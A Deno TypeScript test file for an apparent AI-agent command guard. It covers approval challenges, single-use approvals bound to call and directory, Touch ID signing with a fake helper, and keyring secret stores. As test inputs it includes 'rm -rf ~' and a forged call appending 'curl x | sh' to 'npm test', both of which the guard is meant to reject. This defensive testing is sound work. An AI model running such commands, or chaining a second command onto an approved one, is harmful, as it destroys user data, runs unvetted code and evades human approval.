/**
 * Challenge and approval files: validation (malformed, tampered, symlinked,
 * wrong mode, expired), single-use consumption bound to the exact call and
 * cwd, expiry, pruning; the Touch ID protocol with a fake helper; secret
 * stores with fake keyring tools.
 */
import assert from "node:assert/strict";
import { canonicalJson } from "../src/core/canonical.ts";
import {
  CHALLENGE_TTL_MS,
  consumeApproval,
  listPending,
  pruneIfDue,
  readChallenge,
  writeApproval,
} from "../src/state/approvals.ts";
import { type Challenge, challengeToken, writeChallenge } from "../src/state/challenges.ts";
import { ensureStateDir } from "../src/state/state_dir.ts";
import { approveWithTouchId, challengeBytes, derToRaw, enroll } from "../src/auth/touchid.ts";
import {
  chooseStore,
  FileStore,
  KeychainStore,
  type Runner,
  SecretServiceStore,
} from "../src/auth/secret_store.ts";

async function stateDir(): Promise<string> {
  const home = await Deno.makeTempDir({ prefix: "guard-approvals-" });
  const dir = `${home}/.aiguard`;
  ensureStateDir(dir);
  return dir;
}

async function challenge(
  dir: string,
  call = "npm test",
  cwd = "/w",
  created = new Date(),
): Promise<Challenge> {
  const c: Challenge = {
    token: await challengeToken(call),
    tool: "Bash",
    agent: "claude",
    call,
    cwd,
    session: "s1",
    risk: "medium",
    warning: "Not covered",
    rule: "default.ask",
    created_at: created.toISOString(),
  };
  writeChallenge(dir, c);
  return c;
}

Deno.test("readChallenge validates token format, shape, binding, age, file type and mode", async () => {
  const dir = await stateDir();
  const now = Date.now();
  const c = await challenge(dir);
  assert.deepEqual(await readChallenge(dir, c.token, now), c);
  await assert.rejects(() => readChallenge(dir, "nothex", now), /not a challenge token/);
  await assert.rejects(() => readChallenge(dir, "0123456789ab", now), /no such challenge/);
  // tampered: the call was edited after the challenge was written
  const path = `${dir}/challenges/${c.token}`;
  Deno.writeTextFileSync(path, canonicalJson({ ...c, call: "rm -rf ~" }), { mode: 0o600 });
  await assert.rejects(() => readChallenge(dir, c.token, now), /tampered/);
  // malformed JSON and wrong shape
  Deno.writeTextFileSync(path, "{not json", { mode: 0o600 });
  await assert.rejects(() => readChallenge(dir, c.token, now), /not valid JSON/);
  Deno.writeTextFileSync(path, JSON.stringify({ token: c.token }), { mode: 0o600 });
  await assert.rejects(() => readChallenge(dir, c.token, now), /malformed/);
  // wrong mode
  await challenge(dir);
  Deno.chmodSync(path, 0o644);
  await assert.rejects(() => readChallenge(dir, c.token, now), /readable by others/);
  // symlink in challenges/
  Deno.removeSync(path);
  const elsewhere = await Deno.makeTempFile();
  Deno.writeTextFileSync(elsewhere, canonicalJson(c));
  Deno.symlinkSync(elsewhere, path);
  await assert.rejects(() => readChallenge(dir, c.token, now), /symlink/);
  Deno.removeSync(path);
  // expired challenge
  const old = await challenge(dir, "make", "/w", new Date(now - CHALLENGE_TTL_MS - 1000));
  await assert.rejects(() => readChallenge(dir, old.token, now), /expired/);
  // a group-writable challenges directory is refused outright
  Deno.chmodSync(`${dir}/challenges`, 0o777);
  await assert.rejects(() => readChallenge(dir, old.token, now), /writable/);
});

Deno.test("an approval is consumed once, only for the exact call and cwd, before it expires", async () => {
  const dir = await stateDir();
  const now = Date.now();
  const c = await challenge(dir);
  writeApproval(dir, c, "totp", now);
  assert.throws(() => Deno.lstatSync(`${dir}/challenges/${c.token}`), Deno.errors.NotFound);
  assert.equal(Deno.statSync(`${dir}/approved/${c.token}`).mode! & 0o777, 0o600);
  assert.equal((await consumeApproval(dir, c.token, c.call, "/elsewhere", now)).status, "rejected");
  // the rejected approval is gone: single use even when refused
  assert.equal((await consumeApproval(dir, c.token, c.call, c.cwd, now)).status, "none");
  writeApproval(dir, c, "totp", now);
  const ok = await consumeApproval(dir, c.token, c.call, c.cwd, now + 1000);
  assert.equal(ok.status, "consumed");
  assert.equal((await consumeApproval(dir, c.token, c.call, c.cwd, now + 1000)).status, "none");
  // expiry
  writeApproval(dir, c, "totp", now);
  const late = await consumeApproval(dir, c.token, c.call, c.cwd, now + 5 * 60_000 + 1);
  assert.deepEqual(late, { status: "rejected", reason: "the approval expired" });
  // a different call with a forged token field
  writeApproval(dir, c, "totp", now);
  const forged = await consumeApproval(dir, c.token, "npm test && curl x | sh", c.cwd, now);
  assert.equal(forged.status, "rejected");
  // tampered approval file
  writeApproval(dir, c, "totp", now);
  Deno.writeTextFileSync(`${dir}/approved/${c.token}`, "{", { mode: 0o600 });
  assert.equal((await consumeApproval(dir, c.token, c.call, c.cwd, now)).status, "rejected");
  // symlinked approval
  const target = await Deno.makeTempFile();
  Deno.symlinkSync(target, `${dir}/approved/${c.token}`);
  assert.deepEqual(await consumeApproval(dir, c.token, c.call, c.cwd, now), {
    status: "rejected",
    reason: "the approval file is not a regular file",
  });
});

Deno.test("20 concurrent consumers: exactly one wins", async () => {
  const dir = await stateDir();
  const now = Date.now();
  const c = await challenge(dir);
  writeApproval(dir, c, "totp", now);
  const results = await Promise.all(
    Array.from({ length: 20 }, () => consumeApproval(dir, c.token, c.call, c.cwd, now)),
  );
  assert.equal(results.filter((r) => r.status === "consumed").length, 1);
  assert.equal(results.filter((r) => r.status === "none").length, 19);
});

Deno.test("pending list is newest first; pruning removes old challenges and expired approvals, at most once a minute", async () => {
  const dir = await stateDir();
  const now = Date.now();
  const a = await challenge(dir, "npm test", "/w", new Date(now - 120_000));
  const b = await challenge(dir, "make", "/w", new Date(now - 10_000));
  const list = await listPending(dir, now);
  assert.deepEqual(list.pending.map((c) => c.token), [b.token, a.token]);
  // age the first challenge past an hour, approve the second and age the approval
  const old = new Date(now - CHALLENGE_TTL_MS - 60_000);
  Deno.utimeSync(`${dir}/challenges/${a.token}`, old, old);
  writeApproval(dir, b, "totp", now);
  const stale = new Date(now - 6 * 60_000);
  Deno.utimeSync(`${dir}/approved/${b.token}`, stale, stale);
  const r = pruneIfDue(dir, now);
  assert.deepEqual(r, { expiredChallenges: [a.token], expiredApprovals: [b.token] });
  assert.equal(pruneIfDue(dir, now + 1000), null, "not due again within a minute");
  assert.notEqual(pruneIfDue(dir, now + 61_000), null);
});

// ── Touch ID protocol, with a fake helper that holds a software P-256 key ──

function fakeHelper(opts: { wrongKey?: boolean; garbage?: boolean; refuse?: boolean } = {}) {
  let key: CryptoKeyPair | null = null;
  let other: CryptoKeyPair | null = null;
  const b64 = (b: ArrayBuffer) => btoa(String.fromCharCode(...new Uint8Array(b)));
  const toDer = (raw: Uint8Array) => {
    const int = (v: Uint8Array) => {
      let i = 0;
      while (i < v.length - 1 && v[i] === 0) i++;
      let s = v.subarray(i);
      if (s[0] & 0x80) s = new Uint8Array([0, ...s]);
      return [0x02, s.length, ...s];
    };
    const body = [...int(raw.subarray(0, 32)), ...int(raw.subarray(32))];
    return new Uint8Array([0x30, body.length, ...body]);
  };
  const run: Runner = async (_cmd, args, stdin) => {
    const gen = () =>
      crypto.subtle.generateKey({ name: "ECDSA", namedCurve: "P-256" }, true, ["sign", "verify"]);
    if (args[0] === "enroll") {
      key = await gen() as CryptoKeyPair;
      const pub = await crypto.subtle.exportKey("raw", key.publicKey);
      return {
        code: 0,
        stdout: JSON.stringify({ ok: true, publicKey: b64(pub) }) + "\n",
        stderr: "",
      };
    }
    if (opts.refuse) {
      return { code: 1, stdout: JSON.stringify({ ok: false, error: "cancelled" }), stderr: "" };
    }
    if (opts.garbage) {
      return { code: 0, stdout: JSON.stringify({ ok: true, signature: "AAAA" }), stderr: "" };
    }
    const msg = Uint8Array.from(atob((stdin ?? "").trim()), (c) => c.charCodeAt(0));
    other ??= await gen() as CryptoKeyPair;
    const signer = opts.wrongKey ? other.privateKey : key!.privateKey;
    const raw = new Uint8Array(
      await crypto.subtle.sign({ name: "ECDSA", hash: "SHA-256" }, signer, msg),
    );
    return {
      code: 0,
      stdout: JSON.stringify({ ok: true, signature: b64(toDer(raw).buffer) }),
      stderr: "",
    };
  };
  return run;
}

Deno.test("Touch ID: enrolment and a verified signature approve; forged, garbage or refused do not", async () => {
  const good = fakeHelper();
  const pub = await enroll("/helper", "/key", good);
  assert.deepEqual(
    await approveWithTouchId("/helper", "/key", pub, "0123456789ab", "npm test", "r", good),
    { ok: true },
  );
  const forged = fakeHelper({ wrongKey: true });
  const pub2 = await enroll("/helper", "/key", forged);
  const r = await approveWithTouchId(
    "/helper",
    "/key",
    pub2,
    "0123456789ab",
    "npm test",
    "r",
    forged,
  );
  assert.equal(r.ok, false);
  const garbage = fakeHelper({ garbage: true });
  const pub3 = await enroll("/helper", "/key", garbage);
  assert.equal(
    (await approveWithTouchId("/helper", "/key", pub3, "0123456789ab", "x", "r", garbage)).ok,
    false,
  );
  const refuse = fakeHelper({ refuse: true });
  const pub4 = await enroll("/helper", "/key", refuse);
  assert.deepEqual(
    await approveWithTouchId("/helper", "/key", pub4, "0123456789ab", "x", "r", refuse),
    {
      ok: false,
      error: "cancelled",
    },
  );
  await assert.rejects(
    () =>
      enroll(
        "/helper",
        "/key",
        () => Promise.resolve({ code: 0, stdout: '{"ok":true,"publicKey":"AAAA"}', stderr: "" }),
      ),
  );
});

Deno.test("Touch ID challenge binds token, call hash and nonce; DER decoding is strict", async () => {
  const n = new Uint8Array(32);
  const a = new TextDecoder().decode(await challengeBytes("0123456789ab", "npm test", n));
  assert.match(a, /^guard-approve-v1\n0123456789ab\n[0-9a-f]{64}\n0{64}\n$/);
  const b = new TextDecoder().decode(await challengeBytes("0123456789ab", "npm test ", n));
  assert.notEqual(a, b);
  const r = new Uint8Array(32).fill(1), s = new Uint8Array(32).fill(2);
  const der = new Uint8Array([0x30, 68, 0x02, 32, ...r, 0x02, 32, ...s]);
  assert.deepEqual(derToRaw(der), new Uint8Array([...r, ...s]));
  assert.equal(derToRaw(der.subarray(0, 10)), null);
  assert.equal(derToRaw(new Uint8Array([0x31, 0])), null);
});

// ── Secret stores ──

function fakeTool(store: Map<string, string>, calls: string[][]): Runner {
  return (cmd, args, stdin) => {
    calls.push([cmd, ...args]);
    if (cmd.endsWith("secret-tool")) {
      const name = args[args.indexOf("name") + 1];
      if (args[0] === "store") store.set(name, stdin ?? "");
      if (args[0] === "clear") store.delete(name);
      if (args[0] === "lookup") {
        const v = store.get(name);
        return Promise.resolve({ code: v ? 0 : 1, stdout: v ?? "", stderr: "" });
      }
      return Promise.resolve({ code: 0, stdout: "", stderr: "" });
    }
    // security
    if (args[0] === "-i") {
      const m = /-s (\S+) -w (\S+)/.exec(stdin ?? "")!;
      store.set(m[1], m[2]);
    } else if (args[0] === "find-generic-password") {
      const v = store.get(args[args.indexOf("-s") + 1]);
      return Promise.resolve({ code: v ? 0 : 44, stdout: v ? v + "\n" : "", stderr: "" });
    } else if (args[0] === "delete-generic-password") store.delete(args[args.indexOf("-s") + 1]);
    return Promise.resolve({ code: 0, stdout: "", stderr: "" });
  };
}

Deno.test("secret stores: keyring tools get the secret on stdin, never in argv; file fallback is 0600", async () => {
  const mem = new Map<string, string>();
  const calls: string[][] = [];
  const ss = new SecretServiceStore(fakeTool(mem, calls));
  await ss.set("totp-secret", "JBSWY3DPEHPK3PXP");
  assert.equal(await ss.get("totp-secret"), "JBSWY3DPEHPK3PXP");
  const kc = new KeychainStore(fakeTool(mem, calls), "guard");
  await kc.set("totp-secret", "JBSWY3DPEHPK3PXP");
  assert.equal(await kc.get("totp-secret"), "JBSWY3DPEHPK3PXP");
  for (const argv of calls) assert.ok(!argv.join(" ").includes("JBSWY3DPEHPK3PXP"), argv.join(" "));
  const dir = await stateDir();
  const fs = new FileStore(dir);
  await fs.set("totp-secret", "JBSWY3DPEHPK3PXP");
  assert.equal(Deno.statSync(`${dir}/totp-secret`).mode! & 0o777, 0o600);
  assert.equal(await fs.get("totp-secret"), "JBSWY3DPEHPK3PXP");
  Deno.chmodSync(`${dir}/totp-secret`, 0o644);
  await assert.rejects(() => fs.get("totp-secret"), /readable by others/);
});

Deno.test("store choice: a keyring that answers is used, a missing or locked one falls back to the file", async () => {
  const dir = await stateDir();
  const working = await chooseStore(dir, "linux", fakeTool(new Map(), []));
  assert.equal(working.kind, "secret-service");
  const missing = await chooseStore(
    dir,
    "linux",
    () => Promise.reject(new Deno.errors.NotFound("no secret-tool")),
  );
  assert.equal(missing.kind, "file");
  const locked = await chooseStore(
    dir,
    "linux",
    () => Promise.resolve({ code: 1, stdout: "", stderr: "locked" }),
  );
  assert.equal(locked.kind, "file");
  const mac = await chooseStore(dir, "darwin", fakeTool(new Map(), []));
  assert.equal(mac.kind, "keychain");
  assert.equal((await chooseStore(dir, "windows")).kind, "file");
});
